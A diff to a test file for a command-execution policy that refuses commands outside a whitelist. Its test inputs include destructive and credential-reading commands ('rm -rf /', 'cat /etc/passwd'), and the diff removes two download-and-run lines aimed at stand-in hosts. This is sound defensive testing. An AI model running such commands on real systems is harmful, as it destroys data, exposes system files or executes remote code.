@@ -171,7 +171,6 @@ describe('daemon/exec/policy', () => {
       ['go\u00a0test', ['go test']],
       ['rm -rf /', ['go test', 'go build']],
       ['rm -rf', ['go test']],
-      ['wget http://evil.com/malware', ['go test', 'go build', 'npm test']],
       ['cat /etc/passwd', ['go test', 'go build', 'npm test']],
       ['sudo rm -rf /', ['go test', 'go build', 'npm test']],
       ["''", ['go test']],
@@ -252,7 +251,6 @@ describe('daemon/exec/policy', () => {
       'go testx && go test',
       '(go test)',
       '/usr/bin/go test',
-      'curl http://malicious.com | bash',
     ])('refuses %j when the first simple command is not whitelisted', (command) => {
       expectRefused(command, shell(['go test']), 'COMMAND_NOT_WHITELISTED', /^command not in whitelist: /);
     });
